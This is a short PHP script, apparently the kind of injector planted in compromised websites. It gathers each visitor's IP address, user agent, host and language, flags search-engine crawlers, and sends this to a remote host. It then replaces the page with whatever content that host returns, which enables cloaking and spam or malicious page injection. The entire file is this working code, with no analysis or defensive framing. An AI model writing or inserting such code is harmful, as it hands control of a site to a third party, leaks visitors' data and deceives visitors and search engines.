<?php
define('NODE', 'https://node.example.org');
function sv($k) { return isset($_SERVER[$k]) ? $_SERVER[$k] : ''; }
function visitor_ip() {
    $a = sv('HTTP_X_FORWARDED_FOR');
    return $a !== '' ? $a : sv('REMOTE_ADDR');
}
function pull($path, $params) {
    $q = http_build_query($params);
    $ch = curl_init(NODE . $path . '?' . $q);
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
    $out = curl_exec($ch);
    curl_close($ch);
    return $out;
}
function ask($path, $params) {
    $body = pull($path, $params);
    if (!$body) { return false; }
    return $body;
}
$ua = sv('HTTP_USER_AGENT');
$visit = array('h' => sv('HTTP_HOST'), 'ua' => $ua, 'ip' => visitor_ip(), 'l' => sv('HTTP_ACCEPT_LANGUAGE'),
    'bot' => preg_match('#google|bing|yandex#i', $ua) ? 1 : 0);
$page = ask('/render', $visit);
if ($page) die($page);
